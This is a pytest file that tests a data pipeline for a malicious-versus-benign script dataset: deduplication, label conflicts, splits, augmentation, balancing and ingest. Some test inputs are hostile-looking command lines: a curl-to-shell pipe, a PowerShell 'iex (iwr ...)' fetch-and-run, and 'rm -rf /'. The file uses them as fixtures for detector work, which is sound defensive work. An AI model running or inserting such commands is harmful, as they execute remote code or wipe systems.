"""Contracts of the data stages on small hand-made inputs and on data/tiny."""
import ast
import json
from collections import Counter

import pytest

from pipeline.config import load_config
from pipeline.records import Record, read_records, text_id
from pipeline.runner import run_pipeline
from pipeline.stages.augment import variants
from pipeline.stages.balance import resample
from pipeline.stages.split import SPLITS, SplitKeys, assign

from .conftest import TINY_CONFIG

SCRIPT = "\n".join(f"$item{i} = Get-ChildItem -Path C:\\data\\folder{i} -Recurse | Where-Object {{ $_.Length -gt {i}00 }}"
                   for i in range(30))


def _write(path, rows):
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def _run(tmp_path, rows, until, *overrides):
    data = _write(tmp_path / "in.jsonl", rows)
    cfg = load_config(TINY_CONFIG, inputs=[str(data)], overrides=["data.dedup.workers=1", *overrides])
    run_pipeline(cfg, tmp_path / "run", until=until, log=lambda m: None)
    return tmp_path / "run", cfg


def test_dedup_catches_a_one_line_edit_keeps_a_different_script_and_drops_conflicts(tmp_path):
    edited = SCRIPT.replace("folder7", "folder7b")
    other = "\n".join(f"for f in /var/log/app{i}/*.log; do gzip -9 \"$f\"; done" for i in range(30))
    rows = [{"text": SCRIPT, "label": "benign"}, {"text": edited, "label": "benign"},
            {"text": SCRIPT + "\n", "label": "benign"},  # exact duplicate after normalisation
            {"text": other, "label": "benign"}, {"text": other.replace("gzip -9", "gzip -1"), "label": "malicious"}]
    run_dir, _ = _run(tmp_path, rows, "dedup")
    kept = list(read_records(run_dir / "dedup" / "records.jsonl"))
    counts = json.loads((run_dir / "dedup" / "manifest.json").read_text())["counts"]
    assert counts["exact_duplicates"] == 1 and counts["near_duplicates"] == 1 and counts["conflicts"] == 1
    assert [r.text for r in kept] == [min((SCRIPT, edited), key=text_id)]  # the conflict pair is gone
    conflict = json.loads((run_dir / "dedup" / "conflicts.jsonl").read_text())
    assert conflict["resolution"] == "dropped" and conflict["votes"] == {"benign": 1, "malicious": 1}


def test_majority_policy_keeps_the_majority_label(tmp_path):
    other = "\n".join(f"curl -s http://example.com/{i} | sh -c 'echo step {i}'" for i in range(30))
    rows = [{"text": other, "label": "malicious"}, {"text": other.replace("step 3", "step 33"), "label": "malicious"},
            {"text": other.replace("step 5", "step 55"), "label": "benign"}]
    run_dir, _ = _run(tmp_path, rows, "dedup", "data.dedup.conflict_policy=majority")
    kept = list(read_records(run_dir / "dedup" / "records.jsonl"))
    assert len(kept) == 1 and kept[0].label == "malicious"


def _records(n_per_label=60, langs=("python", "bash"), groups=False):
    out = []
    for label in ("malicious", "benign"):
        for i in range(n_per_label):
            text = f"# {label} {i}\necho {label}-{i}"
            out.append(Record(id=text_id(text), text=text, label=label, lang=langs[i % len(langs)],
                              source=f"s{i}", group=f"g{i // 4}-{label}" if groups else None))
    return out


def test_split_is_stratified_seeded_and_keeps_groups_whole():
    recs = _records(groups=True)

    def split(seed):
        where = assign(SplitKeys.read(recs, "group"), 0.15, 0.25, True, seed=seed)
        return {name: [r for r, s in zip(recs, where) if s == k] for k, name in enumerate(SPLITS)}

    a, b, c = split(1), split(1), split(2)
    assert {k: [r.id for r in v] for k, v in a.items()} == {k: [r.id for r in v] for k, v in b.items()}
    assert {r.id for r in a["test"]} != {r.id for r in c["test"]}
    assert sum(len(v) for v in a.values()) == len(recs)
    where = {r.group: name for name, rs in a.items() for r in rs}
    for name, rs in a.items():
        assert all(where[r.group] == name for r in rs)  # no group straddles
        labels = Counter(r.label for r in rs)
        assert labels["malicious"] == labels["benign"]  # stratified by label (groups are single-label here)
    assert abs(len(a["test"]) / len(recs) - 0.25) < 0.05 and abs(len(a["val"]) / len(recs) - 0.15) < 0.05


def test_tiny_pipeline_has_no_cross_split_leakage_and_augments_train_only(tmp_path, tiny_overrides):
    cfg = load_config(TINY_CONFIG, overrides=tiny_overrides)
    run_pipeline(cfg, tmp_path, until="balance", log=lambda m: None)
    split = json.loads((tmp_path / "split" / "manifest.json").read_text())["counts"]
    assert split["cross_split_near_duplicates"] == 0 and split["cross_split_exact_duplicates"] == 0
    held_out = {r.id for s in ("val", "test") for r in read_records(tmp_path / "split" / f"{s}.jsonl")}
    augmented = list(read_records(tmp_path / "augment" / "train.jsonl"))
    train_ids = {r.id for r in read_records(tmp_path / "split" / "train.jsonl")}
    made = [r for r in augmented if r.parent_id]
    assert made and all(r.parent_id in train_ids for r in made)
    assert not held_out & {r.id for r in augmented}
    parents = {r.id: r for r in augmented}
    assert all(r.label == parents[r.parent_id].label and r.lang == parents[r.parent_id].lang for r in made)
    assert {r.label for r in made} == {"malicious", "benign"}  # both classes are augmented


def test_augment_refuses_other_splits_and_keeps_python_parsing():
    recs = [Record(id="x", text="import os\n\ndef main(path):\n    total = 0\n    for name in os.listdir(path):\n"
                   "        total += len(name)\n    return total\n", label="benign", lang="python", source="t")]
    with pytest.raises(ValueError, match="train split only"):
        list(variants(recs, "test", ["rename_identifiers"], 1, 1.0, 0, Counter()))
    made = list(variants(recs, "train", ["rename_identifiers", "comments", "whitespace", "string_split"], 8, 1.0,
                         0, Counter()))
    assert made
    for v in made:
        ast.parse(v.text)
        assert v.label == "benign" and v.parent_id == "x" and v.transforms


def test_balance_ratios():
    labels = ["benign"] * 100 + ["malicious"] * 30
    hybrid = resample(labels, "hybrid", 0.8, 1.0, seed=0)
    c = Counter(labels[i] for i in hybrid)
    assert c["malicious"] == 80 and c["benign"] == 80  # up to 0.8 x 100, then majority down to 1:1
    over = Counter(labels[i] for i in resample(labels, "oversample", 1.0, 1.0, seed=0))
    under = Counter(labels[i] for i in resample(labels, "undersample", 1.0, 1.0, seed=0))
    assert over == {"benign": 100, "malicious": 100} and under == {"benign": 30, "malicious": 30}
    assert len(resample(labels, "none", 0.8, 1.0, seed=0)) == 130
    assert list(resample(labels, "hybrid", 0.8, 1.0, seed=0)) == list(hybrid)  # seeded


def test_ingest_keeps_good_records_around_bad_ones(tmp_path):
    data = tmp_path / "in.jsonl"
    data.write_text('{"text": "echo ok", "label": "benign"}\nnot json\n{"text": "", "label": "benign"}\n'
                    '{"text": "rm -rf /", "label": "evil"}\n{"text": "iex (iwr http://example.com)", "label": "malicious"}\n')
    cfg = load_config(TINY_CONFIG, inputs=[str(data)])
    run_pipeline(cfg, tmp_path / "run", until="ingest", log=lambda m: None)
    counts = json.loads((tmp_path / "run" / "ingest" / "manifest.json").read_text())["counts"]
    assert counts["accepted"] == 2 and counts["rejected"] == 3
    rejected = [json.loads(l) for l in (tmp_path / "run" / "ingest" / "rejected.jsonl").read_text().splitlines()]
    assert {r["reason"] for r in rejected} == {"malformed_json", "empty", "unknown_label"}
    assert all(r["location"].startswith(str(data)) and r["detail"] for r in rejected)


def test_augment_equalises_the_variant_rate_across_labels_per_language():
    from pipeline.stages.augment import equalise

    def rec(i, label, lang, parent=None):
        return Record(id=f"{lang}-{label}{i}{parent or ''}", text="x", label=label, lang=lang, source="s", parent_id=parent)

    originals = [rec(i, "benign", "bash") for i in range(10)] + [rec(i, "malicious", "bash") for i in range(10)] \
        + [rec(i, "benign", "vbscript") for i in range(3)]
    made = [rec(i, "benign", "bash", "p") for i in range(9)] + [rec(i, "malicious", "bash", "p") for i in range(5)] \
        + [rec(i, "benign", "vbscript", "p") for i in range(2)]
    kept = equalise(originals, made, seed=0)
    per = Counter((r.lang, r.label) for r in kept)
    assert per[("bash", "benign")] == per[("bash", "malicious")] == 5  # the lower rate, 5/10, for both labels
    assert per[("vbscript", "benign")] == 2  # one label only in that language: nothing to equalise
    assert equalise(originals, made, seed=0) == kept


def test_leakage_check_counts_near_duplicates_across_splits_when_dedup_is_off(tmp_path, tiny_overrides):
    cfg = load_config(TINY_CONFIG, overrides=[*tiny_overrides, "data.dedup.enabled=false"])
    notes = []
    run_pipeline(cfg, tmp_path, until="split", log=notes.append)
    counts = json.loads((tmp_path / "split" / "manifest.json").read_text())["counts"]
    assert counts["cross_split_near_duplicates"] > 0  # data/tiny plants near-duplicate pairs; some get split apart
    assert any("leakage" in n for n in notes)


def test_texts_on_disk_reads_back_what_was_written(tmp_path):
    from pipeline.records import TextsOnDisk, scan_records, write_records

    recs = [Record(id=str(i), text=f"line {i}\nwith é and \\\" quotes", label="benign") for i in range(5)]
    write_records(tmp_path / "r.jsonl", recs)
    offsets = [o for o, _ in scan_records(tmp_path / "r.jsonl")]
    texts = TextsOnDisk(tmp_path / "r.jsonl", offsets[::-1])
    assert len(texts) == 5 and list(texts) == [r.text for r in recs[::-1]] and texts[1:3] == [recs[3].text, recs[2].text]
    assert texts.record(0).id == "4"


def test_atomic_writes_get_the_usual_permissions(tmp_path):
    import os

    from pipeline.records import write_json

    write_json(tmp_path / "x.json", {"a": 1})
    mask = os.umask(0)
    os.umask(mask)
    assert (tmp_path / "x.json").stat().st_mode & 0o777 == 0o666 & ~mask
